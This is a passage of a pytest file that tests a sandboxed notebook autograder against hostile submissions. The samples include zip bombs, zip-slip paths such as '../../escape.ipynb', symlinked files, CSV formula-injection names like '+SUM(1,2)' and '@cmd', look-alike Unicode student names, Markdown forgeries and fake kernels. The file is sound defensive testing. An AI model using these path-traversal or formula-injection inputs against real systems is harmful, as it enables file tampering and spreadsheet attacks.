        *[row for n in LOOKALIKES for row in _auto(visible(n), (1, 1, 1), f"{visible(n)}/hw.ipynb")],
        _skipped("+SUM(1,2)", "+SUM(1,2)__notes.txt", "not a notebook or zip (.txt): ignored"),
        _skipped("@cmd", "@cmd__notes.txt", "not a notebook or zip (.txt): ignored"),
        _skipped("-2+3", "-2+3__notes.txt", "not a notebook or zip (.txt): ignored"),
        _skipped(".hidden", ".hidden__hw.ipynb", "hidden file: ignored"),
        _skipped("symlink", "symlink__hw.ipynb", "symbolic link: not followed, not graded"),
        _skipped("passwd", "passwd__hw.ipynb", "symbolic link: not followed, not graded"),
        _skipped("linkdir", "linkdir", "symbolic link: not followed, not graded"),
        _skipped("fifo", "fifo__hw.ipynb", "not a regular file (device, pipe or socket): ignored"),
        _skipped("bomb", "bomb__hw.zip", "zip refused: it would expand to 1024 MB, more than 200 MB (a zip bomb?)"),
        _skipped("many", "many__hw.zip", "zip refused: 501 members, more than 500"),
        _skipped("slip", "slip__hw.zip", "zip holds no notebook"),
        _skipped("slip", "slip__hw.zip:../../escape.ipynb",
                 "zip member skipped: unsafe path (../ or absolute), never extracted"),
        _skipped("slip", "slip__hw.zip:/abs.ipynb",
                 "zip member skipped: unsafe path (../ or absolute), never extracted"),
        _skipped("slip", "slip__hw.zip:slip/readme.md", "zip member ignored: not a notebook"),
    ]
    return sorted(rows, key=lambda r: (r[0], r[1], r[2], r[5]))


@needs_sandbox
def test_the_gradebook_is_exact(hostile):
    """Honest students get full marks, attackers nothing undeserved, every file has its row and status."""
    got = _rows(hostile["book"])
    expected = _expected()
    assert [r for r in got if r not in expected] == [] and [r for r in expected if r not in got] == []
    assert got == expected
    assert hostile["seconds"] < 600  # 23 kernels on 2 workers; a stalled run would hit the 120 s limits


@needs_sandbox
def test_the_trusted_side_stays_small_and_connects_only_to_its_kernels(hostile):
    """Six 400 MB prints and a 5.7 MB cell cost the grading worker nothing (before: 1.7 GB and 3.7 GB);
    a kernel that replaces its sockets with links to a host socket gets no connection."""
    assert 0 < hostile["worker_peak"] < 400 * 2 ** 20, hostile["worker_peak"]
    assert hostile["connected"] is False


@needs_sandbox
def test_look_alike_names_are_flagged_and_shown_apart(hostile):
    book = hostile["book"]
    flags = {r.student: r.flag for r in book.itertuples(index=False)}
    flagged = {s for s, f in flags.items() if f}
    shown = {visible(n) for n in LOOKALIKES}
    assert flagged == {"alice", *shown, LONG_NAME, "ann\\nsmith", "tab\\tname"}, flagged
    assert all(flags[s].startswith("possible impersonation: the name ") for s in flagged)
    assert "mixes Cyrillic and Latin letters" in flags["\u0430lice"]
    assert "U+200B zero width space" in flags["alice\\u200b"] and "U+200F right-to-left mark" in flags["al\\u200fice"]
    assert "looks like 'alice\\\\u200b'" in flags["alice"]  # the original is flagged too, naming its look-alikes
    assert len({visible(n) for n in ["alice", *LOOKALIKES]}) == 4  # four rows, four names shown


@needs_sandbox
def test_originals_untouched_and_nothing_outside_the_output_folder(hostile):
    assert hostile["after"] == hostile["before"]  # same files, modes and bytes outside out/
    out = hostile["out"]
    assert sorted(p.name for p in out.iterdir()) == ["feedback", "gradebook.csv", "manual"]  # no temp folder left
    for target in (Path("/tmp") / TOKEN, Path(f"/tmp/{TOKEN}.ctypes"), grading.SOLUTIONS.parent / TOKEN,
                   grading.SOLUTIONS.parent / f"{TOKEN}.ctypes", hostile["subs"] / TOKEN, out / TOKEN):
        assert not target.exists(), target
    survivors = []  # a daemon with no grader above it (one in a sandbox another test is grading has one)
    for d in Path("/proc").glob("[0-9]*"):
        try:
            if DAEMON_MARK in (d / "cmdline").read_bytes().decode(errors="replace") and not under_a_grader(int(d.name)):
                survivors.append(d.name)
        except OSError:
            pass
    assert survivors == []
    for f in out.rglob("*"):
        if f.is_file():
            text = f.read_text(encoding="utf-8")
            assert HIDDEN_MARK not in text and "-212121" not in text, f  # hidden tests never reach an output


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@needs_sandbox
def test_csv_cells_are_never_formulas(hostile):
    out = hostile["out"]
    sheets = [out / "gradebook.csv", out / "manual" / A / "q4_scores.csv", out / "feedback" / "index.csv"]
    for sheet in sheets:
        for row in _csv_cells(sheet):
            for cell in row:
                assert not cell.startswith(DANGEROUS), (sheet.name, cell)
                assert "\n" not in cell and "\r" not in cell, (sheet.name, cell)
    students = {r[0] for r in _csv_cells(out / "gradebook.csv")[1:]}
    assert {"'" + FORMULA, "'+SUM(1,2)", "'@cmd", "'-2+3", "ann\\nsmith"} <= students
    assert "'" + FORMULA in {r[0] for r in _csv_cells(out / "manual" / A / "q4_scores.csv")[1:]}


@needs_sandbox
def test_manual_sheet_names_read_back_exactly(hostile, tmp_path):
    """The sheet's neutralised names map back to the students; a second run keeps the scores."""
    out = hostile["out"]
    sheet = out / "manual" / A / "q4_scores.csv"
    text = sheet.read_text(encoding="utf-8")
    from facecourse.grading import report

    rows = report.read_scores(sheet)
    assert set(rows) == set(GRADED)
    assert text.count("\n") == len(GRADED) + 1


def _tokens(path: Path):
    return MarkdownIt("commonmark").parse(path.read_text(encoding="utf-8"))


def _headings(tokens, level: str) -> list[str]:
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open" and t.tag == level]


@needs_sandbox
def test_written_answers_cannot_forge_another_students_section(hostile):
    answers = hostile["out"] / "manual" / A / "q4_answers.md"
    tokens = _tokens(answers)
    names = sorted(GRADED)
    rendered = [MarkdownIt("commonmark").renderInline(h) for h in _headings(tokens, "h2")]
    from html import unescape

    assert [unescape(r) for r in rendered] == names  # one section per graded student, named exactly
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    fences = [t.content for t in tokens if t.type == "fence"]
    assert len(fences) == len(names)
    assert any("## alice" in f and "<img" in f for f in fences)  # mallory's forgery stays inside her block
    assert any("Base rates matter" in f for f in fences)
    assert "(no answer)" in fences[names.index("truthy")]


@needs_sandbox
def test_feedback_files_are_distinct_and_clean(hostile):
    folder = hostile["out"] / "feedback"
    from facecourse.grading.report import csv_uncell, md_escape

    index = {csv_uncell(row[0]): row[1] for row in _csv_cells(folder / "index.csv")[1:]}
    book = hostile["book"]
    assert len(index) == book["student"].nunique() == len(set(index.values()))
    assert index["inj ann smith"] != index["inj_ann_smith"]
    assert sorted(p.name for p in folder.glob("*.md")) == sorted(index.values())
    for name in ("inj ann smith", "inj_ann_smith"):
        text = (folder / index[name]).read_text(encoding="utf-8")
        assert md_escape(f"{name}__hw.txt") in text, text  # each file names its own student's file
    for f in folder.glob("*.md"):
        tokens = _tokens(f)
        assert len(_headings(tokens, "h1")) == 1, f.name
        assert not [t for t in tokens if t.type in ("html_block", "html_inline")], f.name
        assert "The grader blocked" not in f.read_text(encoding="utf-8")
    assert "Automatic score so far: 2 / 3" in (folder / index["eve"]).read_text(encoding="utf-8")
    slow = (folder / index["slowpoke"]).read_text(encoding="utf-8")
    assert "stopped at its time limit (it ran for more than 3 s of CPU time)" in slow, slow  # not "in general"
    assert "check your answer in general" not in slow
    assert "Automatic score so far: 3 / 3" in (folder / index["alice"]).read_text(encoding="utf-8")


@needs_sandbox
def test_the_forgeries_really_ran(hostile):
    """mallory's forging cell ran (its wrong `mean` is what failed), so the zero is the forgeries' failure."""
    from facecourse.grading.report import csv_uncell

    folder = hostile["out"] / "feedback"
    index = {csv_uncell(row[0]): row[1] for row in _csv_cells(folder / "index.csv")[1:]}
    mallory = (folder / index["mallory"]).read_text(encoding="utf-8")
    assert "mean([1, 3]) should be 2.0" in mallory and "answer should be an int" in mallory
    # the swapped agent answered the grader's requests itself: its forged values reached the cases
    # (as its answers) and were judged there, so the sentences about them are shown
    text = (folder / index["harness"]).read_text(encoding="utf-8")
    assert "answer should be an int" in text and "not answered yet" not in text, text
    # the fake do_execute answered the grader's probe; the tests' requests never go through
    # do_execute, so they met the real (blank) answers
    assert "q2 is not answered yet" in (folder / index["fakeexec"]).read_text(encoding="utf-8")
